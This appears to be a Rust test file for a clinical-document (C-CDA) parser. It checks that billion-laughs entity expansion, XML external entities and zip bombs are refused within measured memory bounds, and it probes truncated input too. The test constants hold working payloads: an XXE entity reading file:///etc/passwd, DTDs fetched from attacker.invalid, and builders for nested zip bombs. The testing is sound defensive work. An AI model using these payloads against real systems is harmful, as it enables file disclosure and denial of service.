//! Hostile input: entity expansion, external entities, truncation, oversized documents and zip
//! bombs. Each case that could use much memory runs in a child process (this test binary run
//! again with `OWNRECORD_CCDA_HOSTILE_CASE` naming the case), which prints its peak resident set
//! (`VmHWM`); the parent asserts the peak stays under a bound derived from the limits.
//!
//! The bounds, from the default limits (a document's cap, now 40 MiB; a container's, 512 MiB):
//! - cases refused before anything is unpacked (DTDs, a zip of zeros, an oversized plain file):
//!   the input the case built itself plus [`SLACK`];
//! - a document over the cap inside a zip: the input plus one document's cap plus `SLACK`: the
//!   entry is read one byte past the cap and no further, whatever its header says;
//! - bombs of many documents: the input plus the container cap (the documents unpacked before
//!   the cap is passed are kept until then: that is what a real container of that size costs)
//!   plus one document's cap in flight plus `SLACK`.
//!
//! `SLACK` (24 MiB) covers the test harness (about 3 MiB resident doing nothing), the
//! allocator and the zip writer's buffers; a case that expanded entities or read a bomb entry
//! whole passes its bound by tens of megabytes to gigabytes.
//!
//! So that a regression fails the test instead of exhausting the machine (the nested bomb
//! declares 32 GiB), each child runs under `ulimit -v`: four times its bound plus 1 GiB of
//! address space (virtual reservations — thread stacks, allocator arenas — exceed what is
//! resident). Past it an allocation fails, the child aborts and its case fails.

use std::io::{Cursor, Write};
use std::path::Path;
use std::process::Command;
use std::time::Instant;

use ownrecord_ccda::{ContainerProblem, Error, Limits, PartKind, XmlProblem, convert, unpack};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

const CASE_VAR: &str = "OWNRECORD_CCDA_HOSTILE_CASE";
const MIB: u64 = 1024 * 1024;
const SLACK: u64 = 24 * MIB;

fn sample_ccd() -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/ccda/hl7ex/Documents__CCD__CCD_1__CCD.XML");
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3">
  <title>&lol9;</title>
  <recordTarget><patientRole><patient><name><given>&lol9;</given></name></patient></patientRole></recordTarget>
</ClinicalDocument>
"#;

const EXTERNAL_ENTITY: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE ClinicalDocument [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "http://attacker.invalid/x.dtd">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3">
  <title>&secret;&remote;</title>
</ClinicalDocument>
"#;

/// A DOCTYPE pointing at an external DTD, with no internal subset.
const EXTERNAL_DTD: &str = r#"<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.invalid/cda.dtd">
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>t</title></ClinicalDocument>
"#;

fn is_dtd_error(result: &Result<ownrecord_ccda::Converted, Error>) -> bool {
    matches!(
        result,
        Err(Error::Xml {
            problem: XmlProblem::Dtd,
            ..
        })
    )
}

/// A document of `text_bytes` bytes of text in one `<title>`, as a stream of chunks.
fn write_big_document(out: &mut impl Write, text_bytes: u64, fill: u8) {
    out.write_all(b"<?xml version=\"1.0\"?>\n<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>")
        .unwrap();
    let chunk = vec![fill; MIB as usize];
    let mut left = text_bytes;
    while left > 0 {
        let n = left.min(MIB);
        out.write_all(&chunk[..n as usize]).unwrap();
        left -= n;
    }
    out.write_all(b"</title></ClinicalDocument>\n").unwrap();
}

fn fast() -> SimpleFileOptions {
    SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .compression_level(Some(1))
        .large_file(true)
}

/// A zip of one entry, written in chunks (never whole in memory).
fn zip_of_streamed(name: &str, write: impl FnOnce(&mut ZipWriter<Cursor<Vec<u8>>>)) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    zip.start_file(name, fast()).unwrap();
    write(&mut zip);
    zip.finish().unwrap().into_inner()
}

/// A zip holding `copies` copies of the one entry of `single` (copied compressed, so a bomb of
/// gigabytes is built from one compressed entry).
fn repeated(single: &[u8], copies: usize, name: impl Fn(usize) -> String) -> Vec<u8> {
    let mut source = ZipArchive::new(Cursor::new(single)).unwrap();
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..copies {
        zip.raw_copy_file_rename(source.by_index_raw(0).unwrap(), name(i))
            .unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Entries of three quarters of a document's cap each (each one fits), 2 GiB in all, unpacked
/// from about 10 MB.
fn document_bomb() -> Vec<u8> {
    let entry = doc_cap() / 4 * 3;
    let copies = (2048 * MIB).div_ceil(entry) as usize;
    let one = zip_of_streamed("doc.xml", |zip| write_big_document(zip, entry, b' '));
    repeated(&one, copies, |i| format!("IHE_XDM/SUBSET01/DOC{i:04}.XML"))
}

fn too_large() -> Error {
    Error::TooLarge {
        limit_mb: doc_cap() / MIB,
    }
}

fn too_big_unpacked() -> Error {
    Error::Container(ContainerProblem::TooBigUnpacked {
        limit_mb: container_cap() / MIB,
    })
}

/// What one case does, in the child process; it panics if the behaviour is wrong.
fn run_case(case: &str) -> u64 {
    let limits = Limits::default();
    match case {
        "baseline" => 0,
        "billion_laughs" => {
            let bytes = BILLION_LAUGHS.as_bytes();
            // unpack finds the document and does not expand it …
            let parts = unpack(bytes, &limits).unwrap();
            assert_eq!(parts.len(), 1);
            assert_eq!(parts[0].kind, PartKind::ClinicalDocument);
            assert_eq!(parts[0].bytes, bytes);
            // … and convert refuses the DTD.
            let result = convert(bytes);
            assert!(is_dtd_error(&result), "convert gave {:?}", result.err());
            bytes.len() as u64
        }
        "external_entity" => {
            for doc in [EXTERNAL_ENTITY, EXTERNAL_DTD] {
                let result = convert(doc.as_bytes());
                assert!(is_dtd_error(&result), "convert gave {:?}", result.err());
            }
            0
        }
        "huge_text_node" => {
            // 100 MiB of text in one element: refused by its size, not parsed, not copied.
            let mut bytes = Vec::with_capacity((100 * MIB + 256) as usize);
            write_big_document(&mut bytes, 100 * MIB, b'a');
            assert_eq!(unpack(&bytes, &limits), Err(too_large()));
            bytes.len() as u64
        }
        "huge_document_in_zip" => {
            let zipped = zip_of_streamed("big.xml", |zip| write_big_document(zip, 100 * MIB, b'a'));
            assert!(zipped.len() < 4 * MIB as usize, "{} bytes", zipped.len());
            assert_eq!(unpack(&zipped, &limits), Err(too_large()));
            zipped.len() as u64
        }
        "single_entry_bomb" => {
            // One entry of 2 GiB of zeros after a document's first bytes.
            let zipped =
                zip_of_streamed("DOC0001.XML", |zip| write_big_document(zip, 2048 * MIB, 0));
            assert_eq!(unpack(&zipped, &limits), Err(too_large()));
            zipped.len() as u64
        }
        "zip_bomb" => {
            let zipped = document_bomb();
            assert!(zipped.len() < 16 * MIB as usize, "{} bytes", zipped.len());
            assert_eq!(unpack(&zipped, &limits), Err(too_big_unpacked()));
            zipped.len() as u64
        }
        "nested_zip_bomb" => {
            // 16 copies of the 2 GiB bomb, each a nested zip: 32 GiB declared.
            let inner = document_bomb();
            let one = zip_of_streamed("inner.zip", |zip| zip.write_all(&inner).unwrap());
            let zipped = repeated(&one, 16, |i| format!("inner{i}.zip"));
            assert_eq!(unpack(&zipped, &limits), Err(too_big_unpacked()));
            zipped.len() as u64
        }
        "zeros_bomb" => {
            // 2 GiB of zeros in 35 entries: not documents, so only their first bytes are read.
            let one = zip_of_streamed("zeros.bin", |zip| {
                let chunk = vec![0u8; MIB as usize];
                for _ in 0..60 {
                    zip.write_all(&chunk).unwrap();
                }
            });
            let zipped = repeated(&one, 35, |i| format!("zeros{i}.bin"));
            assert_eq!(
                unpack(&zipped, &limits),
                Err(Error::Container(ContainerProblem::NoDocument))
            );
            zipped.len() as u64
        }
        other => panic!("unknown case {other}"),
    }
}

/// The child: runs the case named in the environment and prints its input size and peak RSS.
/// Without the variable (an ordinary test run) it does nothing.
#[test]
fn child() {
    let Ok(case) = std::env::var(CASE_VAR) else {
        return;
    };
    let started = Instant::now();
    let input = run_case(&case);
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let peak_kib: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM in /proc/self/status");
    println!(
        "\nHOSTILE {case} input={input} peak_kib={peak_kib} ms={}",
        started.elapsed().as_millis()
    );
}

struct Measured {
    input: u64,
    peak: u64,
}

/// Runs a case in a child process (its address space capped well above `bound`) and returns
/// its input size and peak RSS, in bytes.
fn in_child(case: &str, bound: u64) -> Measured {
    let address_space_kib = (4 * bound + 1024 * MIB) / 1024;
    let output = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -v {address_space_kib} && exec \"$0\" \"$@\""
        ))
        .arg(std::env::current_exe().unwrap())
        .args(["child", "--exact", "--nocapture", "--test-threads=1"])
        .env(CASE_VAR, case)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "case {case} failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let line = stdout
        .lines()
        .find(|l| l.starts_with(&format!("HOSTILE {case} ")))
        .unwrap_or_else(|| panic!("case {case} printed no result:\n{stdout}"));
    let field = |name: &str| -> u64 {
        line.split_whitespace()
            .find_map(|f| f.strip_prefix(name))
            .and_then(|v| v.parse().ok())
            .unwrap()
    };
    let measured = Measured {
        input: field("input="),
        peak: field("peak_kib=") * 1024,
    };
    eprintln!(
        "{case}: input {:.1} MiB, peak RSS {:.1} MiB, {} ms",
        measured.input as f64 / MIB as f64,
        measured.peak as f64 / MIB as f64,
        field("ms=")
    );
    measured
}

#[track_caller]
fn assert_peak_under(case: &str, bound: u64) {
    // The inputs the cases build are at most 100 MiB (the text node) and about 10 MiB (bombs).
    let m = in_child(case, bound + 100 * MIB);
    let bound = m.input + bound;
    assert!(
        m.peak < bound,
        "{case}: peak RSS {} MiB, bound {} MiB",
        m.peak / MIB,
        bound / MIB
    );
}

/// The default cap of one document.
fn doc_cap() -> u64 {
    Limits::default().max_document_bytes
}

/// The default cap of what one container unpacks to.
fn container_cap() -> u64 {
    Limits::default().max_unpacked_bytes
}

#[test]
fn baseline_process() {
    assert_peak_under("baseline", SLACK);
}

#[test]
fn billion_laughs_is_refused_as_a_dtd() {
    assert_peak_under("billion_laughs", SLACK);
}

#[test]
fn external_entities_are_refused_as_a_dtd() {
    assert_peak_under("external_entity", SLACK);
}

#[test]
fn a_100_mb_text_node_is_too_large() {
    assert_peak_under("huge_text_node", SLACK);
}

#[test]
fn a_100_mb_document_in_a_zip_is_too_large() {
    assert_peak_under("huge_document_in_zip", doc_cap() + SLACK);
}

#[test]
fn a_2_gb_single_entry_bomb_is_too_large() {
    assert_peak_under("single_entry_bomb", doc_cap() + SLACK);
}

#[test]
fn a_2_gb_zip_bomb_is_too_big_unpacked() {
    assert_peak_under("zip_bomb", container_cap() + doc_cap() + SLACK);
}

#[test]
fn a_32_gb_nested_zip_bomb_is_too_big_unpacked() {
    assert_peak_under("nested_zip_bomb", container_cap() + doc_cap() + SLACK);
}

#[test]
fn a_2_gb_bomb_of_zeros_is_never_inflated() {
    assert_peak_under("zeros_bomb", SLACK);
}

/// Where to cut the sample CCD: after a tag near a quarter and a half of it (the text ends
/// between tags), and inside a tag near three quarters (the text ends in a name or a string).
fn cuts(ccd: &[u8]) -> [usize; 3] {
    let after_tag = |from: usize| from + ccd[from..].iter().position(|&b| b == b'>').unwrap() + 1;
    let inside_tag =
        |from: usize| from + ccd[from..].windows(3).position(|w| w == b" ro").unwrap() + 2;
    [
        after_tag(ccd.len() / 4),
        after_tag(ccd.len() / 2),
        inside_tag(ccd.len() * 3 / 4),
    ]
}

#[test]
fn truncated_document_is_truncated() {
    let ccd = sample_ccd();
    for cut in cuts(&ccd) {
        match convert(&ccd[..cut]) {
            Err(Error::Xml {
                problem: XmlProblem::Truncated,
                ..
            }) => {}
            other => panic!("cut at {cut}: {:?}", other.err()),
        }
    }
}

/// The XML parser's errors map to the kinds above, whoever calls it.
#[test]
fn parser_errors_map_to_kinds() {
    let kind = |text: &str| match Error::from(roxmltree::Document::parse(text).unwrap_err()) {
        Error::Xml { problem, .. } => problem,
        other => panic!("{other:?}"),
    };
    assert_eq!(kind(BILLION_LAUGHS), XmlProblem::Dtd);
    assert_eq!(kind(EXTERNAL_ENTITY), XmlProblem::Dtd);
    assert_eq!(kind(EXTERNAL_DTD), XmlProblem::Dtd);
    assert_eq!(kind("<a>&undeclared;</a>"), XmlProblem::Dtd);
    let ccd = String::from_utf8(sample_ccd()).unwrap();
    // Ending between tags is told as truncation from the error alone (inside a tag it takes
    // the text too: the crate's own unit tests cover that).
    for cut in &cuts(ccd.as_bytes())[..2] {
        assert_eq!(kind(&ccd[..*cut]), XmlProblem::Truncated, "cut at {cut}");
    }
    assert_eq!(kind("<a><b></a>"), XmlProblem::Malformed);
    assert_eq!(kind("<x:a/>"), XmlProblem::Namespace);
    // The error names a position, never the text: the entity's name is not in its message.
    let message = Error::from(roxmltree::Document::parse("<a>&secretname;</a>").unwrap_err());
    assert!(!message.to_string().contains("secretname"), "{message}");
}
